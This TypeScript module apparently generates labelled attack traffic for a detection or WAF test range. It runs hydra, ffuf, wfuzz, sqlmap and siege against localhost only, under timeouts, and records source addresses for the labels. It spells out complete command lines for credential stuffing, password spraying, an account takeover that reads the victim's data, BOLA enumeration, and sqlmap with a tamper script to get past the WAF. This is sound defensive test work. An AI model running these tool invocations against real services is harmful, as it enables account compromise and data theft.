/**
 * Attacks run with real tools from Debian packages (hydra, ffuf, wfuzz, sqlmap, siege), each
 * bounded by `timeout`, small word lists and delay or concurrency flags, against 127.0.0.1 only.
 *
 * None of these tools can choose its source address. hydra, sqlmap (Python), wfuzz (pycurl) and
 * siege get one from the LD_PRELOAD shim (range/shim/srcbind.c), which also records every
 * connection (time, address): those records are the labels' addresses and time spans. ffuf is a
 * Go binary the shim cannot reach; it sends X-Forwarded-For, which nginx's realip module (trusting
 * the 127/8 "load balancer") turns into the client address, and its label spans the process run.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Rng } from '../../samples/generator/prng.ts';
import { activity, benignAccounts, pause, type RunContext, tryLogin } from '../actors.ts';
import type { Lane, Ports } from '../gateways.ts';
import type { LabelDraft } from '../labels.ts';
import type { ProcessRegistry } from '../processes.ts';
import {
  ATO_PASSWORDS,
  BRUTE_PASSWORDS,
  FORCED_BROWSING_PATHS,
  LEAKED_PASSWORDS,
  SPRAY_PASSWORDS,
} from './wordlists.ts';

export interface ToolEnv {
  reg: ProcessRegistry;
  /** Scratch directory (configs, word lists, tool outputs). */
  work: string;
  /** The compiled source-address shim. */
  shim: string;
  ports: Ports;
  /** Upstream versions of the tools, e.g. { hydra: "9.4" }. */
  versions: Record<string, string>;
  /** Every tool run, for the manifest. */
  runs: ToolRun[];
  /** Shorter runs use faster pacing so every attack fits. */
  durationMs: number;
}

export interface ToolRun {
  id: string;
  tool: string;
  lane: Lane;
  argv: string[];
  exit: number | string;
  startedAt: string;
  endedAt: string;
  /** Connections the shim recorded (tools it can reach). */
  connections: number;
  note?: string;
}

interface Conn {
  at: number;
  ip: string;
}

interface RunResult {
  exit: number | string;
  start: number;
  end: number;
  conns: Conn[];
  stdout: string;
}

/** Compile the shim with gcc into the work directory. */
export function buildShim(work: string, source: string): string {
  const out = join(work, 'srcbind.so');
  execFileSync('/usr/bin/gcc', ['-shared', '-fPIC', '-O2', '-o', out, source, '-ldl'], {
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  return out;
}

/** "9.4-1" / "1:1.7.2-1+b2" → "9.4" / "1.7.2". */
export function upstreamVersion(debian: string): string {
  const m = /^(?:\d+:)?([^-+~]+)/.exec(debian);
  return m ? m[1]! : debian;
}

function toolName(env: ToolEnv, tool: string): string {
  return `${tool} ${env.versions[tool] ?? 'unknown'}`;
}

function list(env: ToolEnv, id: string, lines: readonly string[]): string {
  const dir = join(env.work, 'lists');
  mkdirSync(dir, { recursive: true });
  const path = join(dir, `${id}.txt`);
  writeFileSync(path, `${lines.join('\n')}\n`);
  return path;
}

/** hydra's option syntax: colons inside values are escaped. */
function hydraEscape(s: string): string {
  return s.replace(/:/g, '\\:');
}

async function runTool(
  env: ToolEnv,
  ctx: RunContext,
  spec: {
    id: string;
    tool: string;
    lane: Lane;
    argv: string[];
    pool?: string[];
    timeoutS: number;
    note?: string;
  },
): Promise<RunResult> {
  const dir = join(env.work, 'tools', spec.id);
  mkdirSync(dir, { recursive: true });
  mkdirSync(join(env.work, 'home'), { recursive: true });
  const connLog = join(dir, 'connections.txt');
  const environment: NodeJS.ProcessEnv = {
    ...process.env,
    TERM: 'dumb',
    // siege writes ~/.siege/siege.conf and sqlmap ~/.local/share/sqlmap: keep both in the work dir
    HOME: join(env.work, 'home'),
  };
  if (spec.pool !== undefined) {
    environment.LD_PRELOAD = env.shim;
    environment.GW_SRC_POOL = spec.pool.join(',');
    environment.GW_SRC_LOG = connLog;
  }
  const start = Date.now();
  const p = env.reg.spawn(spec.id, '/usr/bin/timeout', ['-k', '5', String(spec.timeoutS), ...spec.argv], {
    env: environment,
    cwd: dir,
    stdout: join(dir, 'stdout.txt'),
    stderr: join(dir, 'stderr.txt'),
  });
  const onAbort = () => void env.reg.stop(p);
  ctx.signal.addEventListener('abort', onAbort, { once: true });
  const exit = await p.exited;
  ctx.signal.removeEventListener('abort', onAbort);
  await env.reg.stop(p); // forked children (hydra tasks) must not outlive the run
  const end = Date.now();
  const conns: Conn[] = existsSync(connLog)
    ? readFileSync(connLog, 'utf8')
        .split('\n')
        .filter((l) => l !== '')
        .map((l) => {
          const [at, ip] = l.split(' ');
          return { at: Number(at), ip: ip! };
        })
    : [];
  env.runs.push({
    id: spec.id,
    tool: toolName(env, spec.tool),
    lane: spec.lane,
    argv: spec.argv,
    exit,
    startedAt: new Date(start).toISOString(),
    endedAt: new Date(end).toISOString(),
    connections: conns.length,
    ...(spec.note ? { note: spec.note } : {}),
  });
  const stdout = existsSync(join(dir, 'stdout.txt')) ? readFileSync(join(dir, 'stdout.txt'), 'utf8') : '';
  return { exit, start, end, conns, stdout };
}

/** Addresses and times of a run from the shim's connection records, and the run's window. */
function fromConns(r: RunResult): {
  ips: Set<string>;
  first: number;
  last: number;
  window: { from: number; to: number };
} {
  const window = { from: r.start, to: r.end };
  if (r.conns.length === 0) return { ips: new Set(), first: r.start, last: r.end, window };
  let first = Number.POSITIVE_INFINITY;
  let last = Number.NEGATIVE_INFINITY;
  for (const c of r.conns) {
    first = Math.min(first, c.at);
    last = Math.max(last, c.at);
  }
  return { ips: new Set(r.conns.map((c) => c.ip)), first, last, window };
}

/** "[8080][http-post-form] host: 127.0.0.1   login: bob   password: hunter2" lines of hydra's stdout. */
export function hydraFound(stdout: string): { login: string; password: string }[] {
  const out: { login: string; password: string }[] = [];
  for (const m of stdout.matchAll(/\]\s+host:\s+\S+\s+login:\s+(\S+)\s+password:\s+(.*)$/gm))
    out.push({ login: m[1]!, password: m[2]!.trim() });
  return out;
}

/** Runs at least this long spray slowly. */
const SLOW_SPRAY_FROM_MS = 8 * 60_000;

const ATTACK_UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0';

export interface ToolAttack {
  id: string;
  lane: Lane;
  /** Rough duration for a run of the given length, for the schedule. */
  estimateMs(durationMs: number): number;
  run(ctx: RunContext, env: ToolEnv, rng: Rng): Promise<LabelDraft[]>;
}

/** hydra http-post-form replaying a combo list of leaked credentials, browser user agent, WAF lane. */
const hydraFormStuffing: ToolAttack = {
  id: 'hydra-form-stuffing',
  lane: 'waf',
  estimateMs: () => 30_000,
  async run(ctx, env, rng) {
    const accounts = benignAccounts(ctx.world);
    const combos: string[] = [];
    const users: string[] = [];
    // a leak from another site: some of our users (with their password from elsewhere), mostly
    // strangers; a combo list of a few hundred lines (real ones run to millions), not a handful
    for (let i = 0; i < 600; i++) {
      let user: string;
      let pass: string;
      if (i % 5 < 2) {
        const a = rng.pick(accounts);
        user = a.username;
        pass = rng.pick(LEAKED_PASSWORDS);
        if (pass === a.password) pass += '!';
      } else {
        user = `${rng.pick(['jsmith', 'mjones', 'kbrown', 'lwilson', 'pmiller', 'cdavis', 'rgarcia', 'tmoore'])}${rng.int(1, 9999)}@${rng.pick(['mail.example', 'example.net', 'inbox.example'])}`;
        pass = rng.pick(LEAKED_PASSWORDS);
      }
      users.push(user);
      combos.push(`${user}:${pass}`);
    }
    const pool = ['127.66.1.10', '127.66.1.11', '127.66.1.12'];
    const r = await runTool(env, ctx, {
      id: this.id,
      tool: 'hydra',
      lane: this.lane,
      pool,
      timeoutS: 60,
      argv: [
        'hydra',
        '-I',
        '-C',
        list(env, this.id, combos),
        '-t',
        '4',
        '-w',
        '10',
        '-s',
        String(env.ports.lanes[this.lane]),
        '127.0.0.1',
        'http-post-form',
        `/api/login:username=^USER^&password=^PASS^:g=:H=User-Agent\\: ${hydraEscape(ATTACK_UA)}:S=token`,
      ],
    });
    const c = fromConns(r);
    return [
      {
        id: this.id,
        class: 'credential_stuffing',
        tool: toolName(env, 'hydra'),
        description: `hydra http-post-form replays ${combos.length} leaked username:password pairs (form body) from ${c.ips.size} addresses with a browser user agent, through the blocking WAF; none is valid here.`,
        ...c,
        users,
        routes: ['/api/login'],
        userAgents: [ATTACK_UA],
      },
    ];
  },
};

/** hydra http-get against basic auth: three common passwords over many staff names, users first (-u). */
const hydraBasicSpray: ToolAttack = {
  id: 'hydra-basic-spray',
  lane: 'waf-detect',
  // slow spraying (-c 1: one try per ~2 s) in runs long enough for it
  estimateMs: (d) => (d >= SLOW_SPRAY_FROM_MS ? 150_000 : 10_000),
  async run(ctx, env) {
    const benignStaff = new Set(ctx.world.staff.filter((s) => s !== ctx.world.basicBruteVictim).slice(0, 6));
    const users = [
      ...ctx.world.staff
        .filter((s) => !benignStaff.has(s) && s !== ctx.world.basicBruteVictim)
        .map((s) => s.username),
      'admin',
      'reports',
      'backup',
      'finance',
      'test',
      'helpdesk',
    ];
    const slow = env.durationMs >= SLOW_SPRAY_FROM_MS;
    const r = await runTool(env, ctx, {
      id: this.id,
      tool: 'hydra',
      lane: this.lane,
      pool: ['127.66.2.10'],
      timeoutS: slow ? 150 : 60,
      argv: [
        'hydra',
        '-I',
        '-L',
        list(env, `${this.id}-users`, users),
        '-P',
        list(env, `${this.id}-passwords`, SPRAY_PASSWORDS),
        '-u',
        ...(slow ? ['-c', '1'] : ['-t', '2']),
        '-s',
        String(env.ports.lanes[this.lane]),
        '127.0.0.1',
        'http-get',
        '/basic/reports',
      ],
    });
    return [
      {
        id: this.id,
        class: 'password_spraying',
        tool: toolName(env, 'hydra'),
        description: `hydra http-get sprays ${SPRAY_PASSWORDS.length} common passwords over ${users.length} basic-auth user names (each password across all users in turn), through the detection-only WAF lane.`,
        ...fromConns(r),
        users,
        routes: ['/basic/reports'],
        userAgents: ['Mozilla/4.0 (Hydra)'],
      },
    ];
  },
};

/** hydra http-get guessing one staff account's basic-auth password (not found). */
const hydraBasicBrute: ToolAttack = {
  id: 'hydra-basic-brute',
  lane: 'haproxy',
  estimateMs: () => 6_000,
  async run(ctx, env) {
    const victim = ctx.world.basicBruteVictim;
    const r = await runTool(env, ctx, {
      id: this.id,
      tool: 'hydra',
      lane: this.lane,
      pool: ['127.66.3.10'],
      timeoutS: 60,
      argv: [
        'hydra',
        '-I',
        '-l',
        victim.username,
        '-P',
        list(env, this.id, BRUTE_PASSWORDS),
        '-t',
        '4',
        '-s',
        String(env.ports.lanes[this.lane]),
        '127.0.0.1',
        'http-get',
        '/basic/reports',
      ],
    });
    return [
      {
        id: this.id,
        class: 'brute_force',
        tool: toolName(env, 'hydra'),
        description: `hydra http-get tries ${BRUTE_PASSWORDS.length} passwords on the basic-auth account ${victim.username} through HAProxy; the password is not on the list.`,
        ...fromConns(r),
        users: [victim.username],
        routes: ['/basic/reports'],
        userAgents: ['Mozilla/4.0 (Hydra)'],
      },
    ];
  },
};

/**
 * hydra http-post-form guessing one shop account until the password is found (-f), then the
 * attacker logs in with it and reads the victim's data: an account takeover.
 */
const hydraFormAto: ToolAttack = {
  id: 'hydra-form-ato',
  lane: 'waf',
  estimateMs: () => 25_000,
  async run(ctx, env, rng) {
    const victim = ctx.world.atoVictim;
    const ip = '127.66.4.10';
    const words = ATO_PASSWORDS.filter((p) => p !== victim.password);
    words.splice(Math.min(words.length, 30 + rng.int(0, 8)), 0, victim.password);
    const r = await runTool(env, ctx, {
      id: this.id,
      tool: 'hydra',
      lane: this.lane,
      pool: [ip],
      timeoutS: 60,
      argv: [
        'hydra',
        '-I',
        '-l',
        victim.username,
        '-P',
        list(env, this.id, words),
        '-f',
        '-t',
        '2',
        '-w',
        '10',
        '-s',
        String(env.ports.lanes[this.lane]),
        '127.0.0.1',
        'http-post-form',
        `/api/login:username=^USER^&password=^PASS^:g=:H=User-Agent\\: ${hydraEscape(ATTACK_UA)}:S=token`,
      ],
    });
    const c = fromConns(r);
    const found = hydraFound(r.stdout).find((f) => f.login === victim.username);
    const follow = activity(ctx, `${this.id}-follow-up`);
    const routes = ['/api/login'];
    if (found !== undefined) {
      // the takeover: log in with the guessed password and read the account's data
      await pause(ctx, rng.int(3000, 8000));
      const who = { lane: this.lane, from: ip, ua: ATTACK_UA, activity: follow };
      const token = await tryLogin(ctx, who, 'form', victim.username, found.password);
      for (const what of ['addresses', 'orders'] as const) {
        await pause(ctx, rng.int(1500, 4000));
        await ctx.client.send({
          lane: this.lane,
          from: ip,
          path: `/api/users/${victim.id}/${what}`,
          activity: follow,
          route: `/api/users/{id}/${what}`,
          headers: { 'User-Agent': ATTACK_UA, ...(token ? { Authorization: `Bearer ${token}` } : {}) },
        });
        routes.push(`/api/users/{id}/${what}`);
      }
    }
    for (const x of follow.ips) c.ips.add(x);
    if (follow.requests > 0) {
      c.last = Math.max(c.last, follow.last);
      c.window.to = Math.max(c.window.to, follow.last + 1000);
    }
    const outcome =
      found === undefined
        ? 'hydra did not find the password (the run was cut short)'
        : `hydra found it, then the attacker logged in with it and read the account's addresses and orders`;
    return [
      {
        id: this.id,
        class: 'account_takeover',
        tool: toolName(env, 'hydra'),
        description: `hydra http-post-form guesses the password of ${victim.username} from a ${words.length}-word list (form body, browser user agent, blocking WAF lane); ${outcome}.`,
        ...c,
        users: [victim.username],
        routes,
        userAgents: [ATTACK_UA],
      },
    ];
  },
};

/** ffuf enumerating /api/users/{id}/addresses with the attacker's own valid session: BOLA attempts. */
const ffufBola: ToolAttack = {
  id: 'ffuf-bola',
  lane: 'waf',
  estimateMs: () => 20_000,
  async run(ctx, env) {
    const ip = '127.66.5.10';
    const me = ctx.world.attackerAccount;
    const login = activity(ctx, `${this.id}-login`);
    const token = await tryLogin(
      ctx,
      { lane: this.lane, from: ip, ua: ATTACK_UA, activity: login },
      'json',
      me.username,
      me.password,
    );
    const ids: string[] = [];
    for (let i = 1; i <= 220; i++) ids.push(String(i));
    for (let i = ctx.world.accounts.length - 10; i <= ctx.world.accounts.length + 20; i++)
      ids.push(String(i));
    const out = join(env.work, 'tools', this.id, 'ffuf.json');
    const r = await runTool(env, ctx, {
      id: this.id,
      tool: 'ffuf',
      lane: this.lane,
      timeoutS: 90,
      note: 'source address via X-Forwarded-For (nginx realip): ffuf is a Go binary the shim cannot reach',
      argv: [
        'ffuf',
        '-s',
        '-u',
        `http://127.0.0.1:${env.ports.lanes[this.lane]}/api/users/FUZZ/addresses`,
        '-w',
        list(env, this.id, ids),
        '-H',
        `User-Agent: ${ATTACK_UA}`,
        '-H',
        `Authorization: Bearer ${token ?? 'none'}`,
        '-H',
        `X-Forwarded-For: ${ip}`,
        '-mc',
        'all',
        '-t',
        '2',
        '-p',
        '0.05',
        '-maxtime',
        '80',
        '-o',
        out,
        '-of',
        'json',
      ],
    });
    const first = login.requests > 0 ? login.first : r.start;
    return [
      {
        id: this.id,
        class: 'bola',
        tool: toolName(env, 'ffuf'),
        description: `ffuf requests /api/users/{id}/addresses for ${ids.length} ids with the attacker's own valid session (browser user agent, blocking WAF lane): the API answers 403 for other users' ids and 404 past the last one.`,
        ips: new Set([ip]),
        first,
        last: r.end,
        window: { from: first, to: r.end },
        users: [me.username],
        routes: ['/api/users/{id}/addresses'],
        userAgents: [ATTACK_UA],
      },
    ];
  },
};

/** wfuzz with a path word list against the detection-only lane: forced browsing. */
const wfuzzForcedBrowsing: ToolAttack = {
  id: 'wfuzz-forced-browsing',
  lane: 'waf-detect',
  estimateMs: () => 15_000,
  async run(_ctx, env) {
    const out = join(env.work, 'tools', this.id, 'wfuzz.json');
    mkdirSync(join(env.work, 'tools', this.id), { recursive: true });
    const r = await runTool(env, _ctx, {
      id: this.id,
      tool: 'wfuzz',
      lane: this.lane,
      pool: ['127.66.6.10'],
      timeoutS: 60,
      argv: [
        'wfuzz',
        '-z',
        `file,${list(env, this.id, FORCED_BROWSING_PATHS)}`,
        '-s',
        '0.05',
        '-f',
        `${out},json`,
        `http://127.0.0.1:${env.ports.lanes[this.lane]}/FUZZ`,
      ],
    });
    return [
      {
        id: this.id,
        class: 'forced_browsing',
        tool: toolName(env, 'wfuzz'),
        description: `wfuzz requests ${FORCED_BROWSING_PATHS.length} well-known paths (admin pages, backups, config files, framework endpoints) through the detection-only WAF lane.`,
        ...fromConns(r),
        routes: FORCED_BROWSING_PATHS.map((p) => `/${p}`),
        userAgents: [`Wfuzz/${env.versions.wfuzz ?? ''}`],
      },
    ];
  },
};

function sqlmapArgs(env: ToolEnv, id: string, key: string, extra: string[]): string[] {
  return [
    'sqlmap',
    '-u',
    `http://127.0.0.1:${env.ports.lanes.waf}/api/products?page=1`,
    '-p',
    'page',
    `--headers=X-API-Key: ${key}`,
    '--batch',
    '--level',
    '1',
    '--risk',
    '1',
    '--flush-session',
    `--output-dir=${join(env.work, 'tools', id, 'sqlmap')}`,
    '--disable-coloring',
    ...extra,
  ];
}

/** sqlmap with its own user agent: the CRS blocks it (injection attempts, all 403). */
const sqlmapBlocked: ToolAttack = {
  id: 'sqlmap-blocked',
  lane: 'waf',
  estimateMs: () => 10_000,
  async run(ctx, env) {
    const key = ctx.world.apiClients.find((c) => c.name === 'tenant-trial')!.key;
    const r = await runTool(env, ctx, {
      id: this.id,
      tool: 'sqlmap',
      lane: this.lane,
      pool: ['127.66.7.10'],
      timeoutS: 90,
      argv: sqlmapArgs(env, this.id, key, []),
    });
    return [
      {
        id: this.id,
        class: 'injection',
        tool: toolName(env, 'sqlmap'),
        description:
          'sqlmap tests the page parameter of /api/products for SQL injection with its own user agent, through the blocking WAF: the CRS answers 403.',
        ...fromConns(r),
        apiKeys: [key],
        routes: ['/api/products'],
      },
    ];
  },
};

/** sqlmap with --random-agent and a tamper script: mostly blocked, some requests slip through. */
const sqlmapTamper: ToolAttack = {
  id: 'sqlmap-tamper',
  lane: 'waf',
  estimateMs: () => 10_000,
  async run(ctx, env) {
    const key = ctx.world.apiClients.find((c) => c.name === 'tenant-trial')!.key;
    const r = await runTool(env, ctx, {
      id: this.id,
      tool: 'sqlmap',
      lane: this.lane,
      pool: ['127.66.8.10'],
      timeoutS: 90,
      argv: sqlmapArgs(env, this.id, key, ['--random-agent', '--tamper=space2comment']),
    });
    return [
      {
        id: this.id,
        class: 'waf_bypass',
        tool: toolName(env, 'sqlmap'),
        description:
          'sqlmap again, with --random-agent and --tamper=space2comment, through the blocking WAF: most payloads get 403, some pass the CRS at paranoia level 1 and reach the API.',
        ...fromConns(r),
        apiKeys: [key],
        routes: ['/api/products'],
      },
    ];
  },
};

/** siege hammering the failing route from many addresses: a burst of 5xx answers. */
const siegeSpike: ToolAttack = {
  id: 'siege-5xx-spike',
  lane: 'haproxy',
  estimateMs: () => 12_000,
  async run(ctx, env) {
    const base = `http://127.0.0.1:${env.ports.lanes[this.lane]}`;
    const urls = [
      `${base}/api/fail?code=503`,
      `${base}/api/fail?code=503`,
      `${base}/api/fail?code=500`,
      `${base}/api/fail?code=503`,
    ];
    const pool: string[] = [];
    for (let i = 0; i < 24; i++) pool.push(`127.68.0.${10 + i}`);
    const r = await runTool(env, ctx, {
      id: this.id,
      tool: 'siege',
      lane: this.lane,
      pool,
      timeoutS: 60,
      argv: [
        'siege',
        '-q',
        '-c',
        '8',
        '-r',
        '20',
        '-d',
        '0.4',
        '-f',
        list(env, this.id, urls),
        `--log=${join(env.work, 'tools', this.id, 'siege.log')}`,
      ],
    });
    return [
      {
        id: this.id,
        class: 'server_error_spike',
        tool: toolName(env, 'siege'),
        description:
          'siege sends 8 concurrent users × 20 requests to /api/fail (mostly 503, some 500) within seconds, from 24 addresses, through HAProxy.',
        ...fromConns(r),
        routes: ['/api/fail'],
        userAgents: [`Mozilla/5.0 (pc-x86_64-linux-gnu) Siege/${env.versions.siege ?? ''}`],
      },
    ];
  },
};

export const TOOL_ATTACKS: readonly ToolAttack[] = [
  hydraFormStuffing,
  hydraBasicSpray,
  hydraBasicBrute,
  hydraFormAto,
  ffufBola,
  wfuzzForcedBrowsing,
  sqlmapBlocked,
  sqlmapTamper,
  siegeSpike,
];
